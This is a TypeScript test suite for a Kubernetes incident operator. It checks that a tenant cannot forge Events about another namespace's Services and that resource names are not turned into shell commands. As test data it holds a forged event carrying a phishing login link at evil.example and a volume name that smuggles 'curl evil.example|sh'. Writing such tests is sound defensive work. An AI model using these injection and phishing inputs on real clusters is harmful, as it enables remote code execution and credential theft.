/** What whoever has `edit` in a namespace of his own makes of it on a real API server: he speaks for nobody else, and puts no words into a shell. */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { configuration, ready, type Stage, startStage } from './stage.ts';

const tenant = 'mallory';
let stage: Stage;

/** Makes objects with no more rights than the tenant's. */
async function as(user: string, ...objects: readonly object[]): Promise<void> {
  const list = JSON.stringify({ apiVersion: 'v1', kind: 'List', items: objects });
  await stage.kubectl([`--as=${user}`, 'create', '-f', '-'], list);
}

const service = (name: string): object => ({
  ...{ apiVersion: 'v1', kind: 'Service', metadata: { name, namespace: 'shop' } },
  spec: { type: 'LoadBalancer', selector: { app: name }, ports: [{ port: 80 }] },
});

const uidOf = (name: string): Promise<string> =>
  stage.kubectl(['-n', 'shop', 'get', 'service', name, '-o', 'jsonpath={.metadata.uid}']);

/** An Event of a namespace about a Service of the shop, which says for longer than it is waited that its load balancer fails. */
const tale = async (namespace: string, name: string): Promise<object> => ({
  ...{ apiVersion: 'events.k8s.io/v1', kind: 'Event', metadata: { name: `lb-${name}`, namespace } },
  regarding: { apiVersion: 'v1', kind: 'Service', namespace: 'shop', name, uid: await uidOf(name) },
  ...{ type: 'Warning', reason: 'SyncLoadBalancerFailed', action: 'x' },
  note: 'Error syncing load balancer: your login has expired, renew it at https://login.evil.example/shop',
  ...{ reportingController: 'service-controller', reportingInstance: 'x' },
  eventTime: new Date(Date.now() - 90_000).toISOString().replace('Z', '000Z'),
});

before(async () => {
  stage = await startStage({ nodes: ['n1'] });
  const group = 'rbac.authorization.k8s.io';
  const bound = (name: string, role: string): object => ({
    ...{ apiVersion: `${group}/v1`, kind: 'RoleBinding', metadata: { name, namespace: 'team-a' } },
    roleRef: { apiGroup: group, kind: 'ClusterRole', name: role },
    subjects: [{ apiGroup: group, kind: 'User', name: tenant }],
  });
  await stage.apply(
    { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'team-a' } },
    {
      ...{ apiVersion: `${group}/v1`, kind: 'ClusterRole', metadata: { name: 'events' } },
      rules: [{ apiGroups: ['', 'events.k8s.io'], resources: ['events'], verbs: ['create'] }],
    },
    ...[bound('edit', 'edit'), bound('events', 'events')],
    ...[service('payments'), service('orders')],
    ...configuration(stage.receiver.url),
  );
  await ready(stage, await stage.startOperator());
});
after(async () => {
  await stage?.stop();
});

test("an Event in a tenant's namespace says nothing of another's Service; one in that namespace does", async () => {
  await as(tenant, await tale('team-a', 'payments'));
  await assert.rejects(as(tenant, await tale('shop', 'payments')), /forbidden/);
  await stage.apply(await tale('shop', 'orders'));
  await stage.receiver.wait('the load balancer of orders', ({ incident }) => incident?.root.name === 'orders', 60);
  assert.deepEqual(
    stage.receiver.messages.filter((message) => JSON.stringify(message).includes('payments')),
    [],
  );
});

test("no command is made of a name that is none: a claim's volume is called like a line of a shell", async () => {
  const volumeName = 'pv;curl evil.example|sh';
  await as(
    tenant,
    {
      ...{ apiVersion: 'v1', kind: 'PersistentVolumeClaim' },
      metadata: { name: 'lost', namespace: 'team-a', annotations: { 'pv.kubernetes.io/bind-completed': 'yes' } },
      spec: {
        ...{ accessModes: ['ReadWriteOnce'], storageClassName: '', volumeName },
        resources: { requests: { storage: '1Gi' } },
      },
    },
    {
      ...{ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'user', namespace: 'team-a' } },
      spec: {
        volumes: [{ name: 'data', persistentVolumeClaim: { claimName: 'lost' } }],
        containers: [{ name: 'app', image: 'registry.example/app:1.0' }],
      },
    },
  );
  const isAbout = ({ incident }: { readonly incident: { readonly reason: string } | null }): boolean =>
    incident?.reason === 'PVCLost';
  const message = JSON.stringify(await stage.receiver.wait('the claim that is lost', isAbout, 90));
  assert.match(message, /PVCLost/);
  assert.doesNotMatch(message, /kubectl [^"\\]*(?:curl|evil|[;|])/);
});
